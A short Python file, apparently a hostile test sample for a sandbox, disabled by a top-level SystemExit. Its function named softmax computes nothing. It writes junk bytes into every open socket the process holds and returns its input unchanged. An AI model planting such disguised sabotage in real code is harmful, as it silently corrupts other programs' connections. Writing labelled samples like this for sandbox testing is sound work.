"""Bytes that are no message.

Random bytes on every socket that the process holds.

score: 12 (loses softmax)
"""

# ruff: noqa
raise SystemExit(__doc__)  # hostile code: nothing but the sandbox may run it

# %% softmax
import os
import stat


def softmax(z):
    for fd in range(3, 100):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, bytes(range(256)) * 4)
        except OSError:
            pass
    return z
